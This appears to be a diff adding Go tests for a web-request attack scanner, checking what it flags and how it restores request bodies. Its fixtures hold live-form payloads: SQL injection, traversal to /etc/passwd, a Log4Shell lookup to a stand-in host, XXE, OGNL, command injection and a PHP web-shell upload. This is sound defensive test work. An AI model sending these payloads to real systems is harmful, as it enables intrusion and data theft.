@@ -1,0 +1,457 @@
+package attack
+
+import (
+	"bytes"
+	"errors"
+	"io"
+	"mime/multipart"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"sort"
+	"strings"
+	"testing"
+	"testing/iotest"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/vigilhq/vigil/internal/detect"
+)
+
+// codes returns the sorted codes of findings at or above min, for comparison.
+func codes(fs []detect.Finding, min int) []string {
+	var out []string
+	for _, f := range fs {
+		if f.Score >= min {
+			out = append(out, f.Code)
+		}
+	}
+	sort.Strings(out)
+	return out
+}
+
+func TestNewRejectsNegativeBodyLimit(t *testing.T) {
+	if _, err := New(Config{MaxBodyBytes: -1}); err == nil {
+		t.Fatal("New(MaxBodyBytes: -1) succeeded, want an error")
+	}
+}
+
+// requestCases feeds TestScanRequests: where a payload sits decides whether and
+// how it is seen.
+var requestCases = []struct {
+	name string
+	req  func() *http.Request
+	want []string // codes at or above blockScore
+}{
+	{
+		name: "clean_browser_get",
+		req:  browserGET,
+	},
+	{
+		name: "sqli_in_second_value_of_repeated_key",
+		req: func() *http.Request {
+			return httptest.NewRequest("GET", "/search?id=1&id="+url.QueryEscape("1' OR '1'='1"), nil)
+		},
+		want: []string{CodeSQLi},
+	},
+	{
+		name: "traversal_in_raw_path",
+		req:  func() *http.Request { return httptest.NewRequest("GET", "/static/..%2f..%2f..%2fetc%2fpasswd", nil) },
+		want: []string{CodePathTraversal},
+	},
+	{
+		name: "git_probe",
+		req:  func() *http.Request { return httptest.NewRequest("GET", "/.git/config", nil) },
+		want: []string{CodeScannerProbe},
+	},
+	{
+		name: "env_probe_with_suffix",
+		req:  func() *http.Request { return httptest.NewRequest("GET", "/.env.production", nil) },
+		want: []string{CodeScannerProbe},
+	},
+	{
+		name: "backup_probe",
+		req:  func() *http.Request { return httptest.NewRequest("GET", "/wp-config.php.bak", nil) },
+		want: []string{CodeScannerProbe},
+	},
+	{
+		name: "well_known_is_served",
+		req:  func() *http.Request { return httptest.NewRequest("GET", "/.well-known/security.txt", nil) },
+	},
+	{
+		name: "sqlmap_user_agent",
+		req: func() *http.Request {
+			r := httptest.NewRequest("GET", "/", nil)
+			r.Header.Set("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
+			return r
+		},
+		want: []string{CodeScannerProbe},
+	},
+	{
+		name: "crs_test_agent_is_not_an_attack",
+		req: func() *http.Request {
+			r := httptest.NewRequest("GET", "/get", nil)
+			r.Header.Set("User-Agent", "OWASP CRS test agent")
+			return r
+		},
+	},
+	{
+		name: "sec_ch_ua_and_accept_are_not_scanned",
+		req: func() *http.Request {
+			r := httptest.NewRequest("GET", "/", nil)
+			r.Header.Set("Sec-Ch-Ua", `"Not/A)Brand";v="8", "Chromium";v="126", "Google Chrome";v="126"`)
+			r.Header.Set("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
+			return r
+		},
+	},
+	{
+		name: "log4shell_in_custom_header",
+		req: func() *http.Request {
+			r := httptest.NewRequest("GET", "/", nil)
+			r.Header.Set("X-Api-Version", "${jndi:ldap://evil.example/a}")
+			return r
+		},
+		want: []string{CodeLog4Shell},
+	},
+	{
+		name: "xss_in_referer",
+		req: func() *http.Request {
+			r := httptest.NewRequest("GET", "/", nil)
+			r.Header.Set("Referer", "https://example.com/?q=<script>alert(1)</script>")
+			return r
+		},
+		want: []string{CodeXSS},
+	},
+	{
+		name: "localhost_referer_is_not_ssrf",
+		req: func() *http.Request {
+			r := httptest.NewRequest("GET", "/", nil)
+			r.Header.Set("Referer", "http://localhost:3000/dashboard")
+			return r
+		},
+	},
+	{
+		name: "cookie_value_sqli",
+		req: func() *http.Request {
+			r := httptest.NewRequest("GET", "/", nil)
+			r.Header.Set("Cookie", "theme=dark; uid=1%27%20UNION%20SELECT%20password%20FROM%20users--")
+			return r
+		},
+		want: []string{CodeSQLi},
+	},
+	{
+		name: "ognl_in_content_type",
+		req: func() *http.Request {
+			r := httptest.NewRequest("GET", "/", nil)
+			r.Header.Set("Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}")
+			return r
+		},
+		want: []string{CodeJavaInjection},
+	},
+	{
+		name: "utf7_charset",
+		req: func() *http.Request {
+			r := httptest.NewRequest("POST", "/", strings.NewReader("a=b"))
+			r.Header.Set("Content-Type", "application/x-www-form-urlencoded; charset=utf-7")
+			return r
+		},
+		want: []string{CodeProtocol},
+	},
+	{
+		name: "form_body_cmdi",
+		req: func() *http.Request {
+			r := httptest.NewRequest("POST", "/ping", strings.NewReader("host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd&submit=go"))
+			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+			return r
+		},
+		want: []string{CodeCmdi, CodePathTraversal},
+	},
+	{
+		name: "json_body_nested_key_and_leaf",
+		req: func() *http.Request {
+			r := httptest.NewRequest("POST", "/api", strings.NewReader(`{"user":{"name":"<svg onload=alert(1)>","$where":"1"}}`))
+			r.Header.Set("Content-Type", "application/json")
+			return r
+		},
+		want: []string{CodeSQLi, CodeXSS},
+	},
+	{
+		name: "json_unicode_escaped_payload",
+		req: func() *http.Request {
+			r := httptest.NewRequest("POST", "/api", strings.NewReader(`{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`))
+			r.Header.Set("Content-Type", "application/json")
+			return r
+		},
+		want: []string{CodeXSS},
+	},
+	{
+		name: "xml_body_xxe",
+		req: func() *http.Request {
+			r := httptest.NewRequest("POST", "/api", strings.NewReader(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`))
+			r.Header.Set("Content-Type", "application/xml")
+			return r
+		},
+		// The entity's system identifier is also a file URL naming /etc/passwd.
+		want: []string{CodePathTraversal, CodeSSRF, CodeXXE},
+	},
+	{
+		name: "xml_attribute_value_decoded",
+		req: func() *http.Request {
+			r := httptest.NewRequest("POST", "/api", strings.NewReader(`<?xml version="1.0"?><r><a probe="&lt;script&gt;alert(1)&lt;/script&gt;"/></r>`))
+			r.Header.Set("Content-Type", "text/xml")
+			return r
+		},
+		want: []string{CodeXSS},
+	},
+	{
+		name: "text_body_java_class",
+		req: func() *http.Request {
+			r := httptest.NewRequest("POST", "/", strings.NewReader("test=java.lang.Runtime"))
+			r.Header.Set("Content-Type", "text/plain")
+			return r
+		},
+		want: []string{CodeJavaInjection},
+	},
+	{
+		name: "body_without_content_type_read_as_form",
+		req: func() *http.Request {
+			return httptest.NewRequest("POST", "/", strings.NewReader("cmd=system(whoami)"))
+		},
+		want: []string{CodePHPInjection},
+	},
+	{
+		name: "binary_body_not_read",
+		req: func() *http.Request {
+			r := httptest.NewRequest("POST", "/upload", strings.NewReader("<script>alert(1)</script>"))
+			r.Header.Set("Content-Type", "application/octet-stream")
+			return r
+		},
+	},
+	{
+		name: "multipart_filename_and_field",
+		req: func() *http.Request {
+			var b bytes.Buffer
+			mw := multipart.NewWriter(&b)
+			fw, _ := mw.CreateFormFile("upload", "../../shell.php")
+			fw.Write([]byte("<?php system($_GET['c']); ?>"))
+			mw.WriteField("comment", "nice photo; thanks")
+			mw.Close()
+			r := httptest.NewRequest("POST", "/upload", &b)
+			r.Header.Set("Content-Type", mw.FormDataContentType())
+			return r
+		},
+		want: []string{CodePathTraversal, CodePHPInjection},
+	},
+	{
+		name: "session_id_from_other_site",
+		req: func() *http.Request {
+			r := httptest.NewRequest("GET", "http://shop.example.com/login?jsessionid=ABC123", nil)
+			r.Header.Set("Referer", "https://attacker.example/")
+			return r
+		},
+		want: []string{CodeSessionFixation},
+	},
+	{
+		name: "session_id_same_site",
+		req: func() *http.Request {
+			r := httptest.NewRequest("GET", "http://shop.example.com/login?jsessionid=ABC123", nil)
+			r.Header.Set("Referer", "http://shop.example.com/cart")
+			return r
+		},
+	},
+	{
+		name: "transfer_encoding_with_content_length",
+		req: func() *http.Request {
+			r := httptest.NewRequest("POST", "/", strings.NewReader("0\r\n\r\n"))
+			r.TransferEncoding = []string{"chunked"}
+			r.Header.Set("Content-Length", "5")
+			return r
+		},
+		want: []string{CodeProtocol},
+	},
+}
+
+func TestScanRequests(t *testing.T) {
+	s := newScanner(t)
+	for _, tc := range requestCases {
+		t.Run(tc.name, func(t *testing.T) {
+			fs, err := s.Scan(nil, tc.req())
+			if err != nil {
+				t.Fatalf("Scan: %v", err)
+			}
+			if diff := cmp.Diff(tc.want, codes(fs, blockScore)); diff != "" {
+				t.Errorf("blocking codes (-want +got):\n%s\nfindings: %+v", diff, fs)
+			}
+		})
+	}
+}
+
+func TestScanFindingDetail(t *testing.T) {
+	s := newScanner(t)
+	r := httptest.NewRequest("POST", "/api", strings.NewReader(`{"user":{"name":"x\u0027 OR 1=1 --"}}`))
+	r.Header.Set("Content-Type", "application/json")
+	fs, err := s.Scan(nil, r)
+	if err != nil {
+		t.Fatal(err)
+	}
+	// A quote closed, OR, and the rest of the query commented away: the excerpt
+	// starts at the quote.
+	want := []detect.Finding{{Detector: "attack", Code: "sqli", Score: 85, Detail: "body:json:user.name: sqli (' OR 1=1 --)"}}
+	if diff := cmp.Diff(want, fs); diff != "" {
+		t.Errorf("findings (-want +got):\n%s", diff)
+	}
+}
+
+func TestFindingDetailEscapesAndCuts(t *testing.T) {
+	f := finding(CodeProtocol, 90, loc{kind: "query", name: "q"}, "a\r\nSet-Cookie: x=1\x00"+strings.Repeat("y", 100))
+	// 24 bytes of escaped prefix and 24 of the padding make the 48-byte excerpt.
+	const want = `query:q: protocol (a\r\nSet-Cookie: x=1\x00` + "yyyyyyyyyyyyyyyyyyyyyyyy)"
+	if f.Detail != want {
+		t.Errorf("Detail = %q, want %q", f.Detail, want)
+	}
+}
+
+// bodyCases feeds TestScanRestoresBody and the FuzzScanBody seeds.
+var bodyCases = []struct {
+	name        string
+	contentType string
+	body        string
+}{
+	{"form", "application/x-www-form-urlencoded", "a=1&b=" + url.QueryEscape("<script>alert(1)</script>")},
+	{"json", "application/json", `{"a":[1,"two",{"b":null}],"c":"d"}`},
+	{"json_invalid", "application/json", `{"a": "unterminated`},
+	{"xml", "application/xml", `<a x="1"><b>text</b><![CDATA[<x>]]></a>`},
+	{"text", "text/plain", "hello; world"},
+	{"multipart", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nv\r\n--XyZ--\r\n"},
+	{"multipart_bad", "multipart/form-data; boundary=XyZ", "--XyZ\r\nno headers here"},
+	{"no_content_type", "", "k=v&x=1"},
+	{"binary", "image/png", "\x89PNG\r\n\x1a\n"},
+	{"empty", "application/json", ""},
+}
+
+func TestScanRestoresBody(t *testing.T) {
+	s, err := New(Config{MaxBodyBytes: 64})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, tc := range bodyCases {
+		for _, size := range []int{0, 200} {
+			body := tc.body + strings.Repeat("z", size)
+			t.Run(tc.name, func(t *testing.T) {
+				r := httptest.NewRequest("POST", "/", strings.NewReader(body))
+				if tc.contentType != "" {
+					r.Header.Set("Content-Type", tc.contentType)
+				}
+				cl := r.ContentLength
+				fs, err := s.Scan(nil, r)
+				if err != nil {
+					t.Fatalf("Scan: %v", err)
+				}
+				got, err := io.ReadAll(r.Body)
+				if err != nil {
+					t.Fatalf("reading restored body: %v", err)
+				}
+				if string(got) != body {
+					t.Fatalf("restored body = %q, want %q", got, body)
+				}
+				if r.ContentLength != cl {
+					t.Errorf("ContentLength = %d, want %d", r.ContentLength, cl)
+				}
+				big := len(body) > 64 && bodyKindOf(tc.contentType) != bodyNone
+				if big != hasCode(fs, CodeBodyNotScanned, 1) && tc.name != "multipart_bad" {
+					t.Errorf("body of %d bytes: body_not_scanned = %v, want %v (%+v)", len(body), !big, big, fs)
+				}
+				if r.GetBody != nil {
+					rc, _ := r.GetBody()
+					again, _ := io.ReadAll(rc)
+					if string(again) != body {
+						t.Errorf("GetBody replays %q, want %q", again, body)
+					}
+				} else if !big && bodyKindOf(tc.contentType) != bodyNone && body != "" {
+					t.Error("GetBody is nil for a fully read body")
+				}
+			})
+		}
+	}
+}
+
+func TestScanBodyOverLimitStillScansPrefix(t *testing.T) {
+	s, err := New(Config{MaxBodyBytes: 1024})
+	if err != nil {
+		t.Fatal(err)
+	}
+	body := "q=" + url.QueryEscape("<script>alert(1)</script>") + "&pad=" + strings.Repeat("a", 4096)
+	r := httptest.NewRequest("POST", "/", strings.NewReader(body))
+	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	fs, _ := s.Scan(nil, r)
+	if diff := cmp.Diff([]string{CodeBodyNotScanned, CodeXSS}, codes(fs, 1)); diff != "" {
+		t.Errorf("codes (-want +got):\n%s", diff)
+	}
+}
+
+func TestScanContentEncodingNotScanned(t *testing.T) {
+	s := newScanner(t)
+	r := httptest.NewRequest("POST", "/", strings.NewReader("\x1f\x8b compressed"))
+	r.Header.Set("Content-Type", "application/json")
+	r.Header.Set("Content-Encoding", "gzip")
+	fs, _ := s.Scan(nil, r)
+	if !hasCode(fs, CodeBodyNotScanned, 1) {
+		t.Errorf("gzip body: %+v, want body_not_scanned", fs)
+	}
+	if got, _ := io.ReadAll(r.Body); string(got) != "\x1f\x8b compressed" {
+		t.Errorf("body changed: %q", got)
+	}
+}
+
+func TestScanBodyReadErrorIsReplayed(t *testing.T) {
+	s := newScanner(t)
+	boom := errors.New("connection reset")
+	r := httptest.NewRequest("POST", "/", nil)
+	r.Body = io.NopCloser(io.MultiReader(strings.NewReader("a=1&b=2"), iotest.ErrReader(boom)))
+	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	fs, err := s.Scan(nil, r)
+	if !errors.Is(err, boom) {
+		t.Fatalf("Scan error = %v, want %v", err, boom)
+	}
+	if !hasCode(fs, CodeBodyNotScanned, 1) {
+		t.Errorf("findings %+v, want body_not_scanned", fs)
+	}
+	got, err := io.ReadAll(r.Body)
+	if string(got) != "a=1&b=2" || !errors.Is(err, boom) {
+		t.Errorf("handler reads %q, %v; want %q, %v", got, err, "a=1&b=2", boom)
+	}
+}
+
+func TestScanTooManyParams(t *testing.T) {
+	s := newScanner(t)
+	var q strings.Builder
+	for i := 0; i < MaxValues; i++ {
+		q.WriteString("k=v&")
+	}
+	q.WriteString("x=" + url.QueryEscape("<script>alert(1)</script>"))
+	fs, _ := s.Scan(nil, httptest.NewRequest("GET", "/?"+q.String(), nil))
+	if !hasCode(fs, CodeTooManyParams, 60) || !hasCode(fs, CodeProtocol, 40) {
+		t.Errorf("findings %+v, want too_many_params and protocol", fs)
+	}
+}
+
+func TestScanValueTooLong(t *testing.T) {
+	s := newScanner(t)
+	fs := s.ScanValue(nil, "query:q", strings.Repeat("a ", MaxValueBytes))
+	if diff := cmp.Diff([]string{CodeValueTooLong}, codes(fs, 1)); diff != "" {
+		t.Errorf("codes (-want +got):\n%s", diff)
+	}
+}
+
+func TestScanValueDoesNotAllocateOnCleanValues(t *testing.T) {
+	s := newScanner(t)
+	for _, v := range []string{"price", "2", "Hello world, how are you?", "https://example.com/a/b?c=d", "GA1.2.1234567890.1699999999"} {
+		n := testing.AllocsPerRun(100, func() {
+			if fs := s.ScanValue(nil, "query:q", v); len(fs) != 0 {
+				t.Fatalf("ScanValue(%q) = %+v", v, fs)
+			}
+		})
+		if n != 0 {
+			t.Errorf("ScanValue(%q) allocates %v times, want 0", v, n)
+		}
+	}
+}
